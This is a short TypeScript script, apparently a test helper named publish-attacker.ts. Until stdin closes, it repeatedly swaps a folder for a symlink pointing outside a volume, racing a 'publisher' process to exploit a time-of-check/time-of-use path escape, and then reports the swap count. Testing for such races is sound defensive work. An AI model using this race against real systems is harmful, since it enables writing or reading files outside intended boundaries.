// Swaps the folder `sub` for a symlink that leads out of the volume, and back, until stdin ends; then prints how often:
// `node publish-attacker.ts OUTSIDE` in the volume.
import { renameSync, symlinkSync, unlinkSync } from 'node:fs'

const [outside = ''] = process.argv.slice(2)
let swaps = 0

const timer = setInterval(() => {
  for (let times = 0; times < 100; times++)
    try {
      renameSync('sub', 'real')
      symlinkSync(outside, 'sub')
      unlinkSync('sub')
      renameSync('real', 'sub')
      swaps++
    } catch {
      // The publisher has made a folder `sub` in between: it is as good as the other.
    }
})
process.stdin.resume().on('end', () => {
  clearInterval(timer)
  process.stdout.write(String(swaps))
})
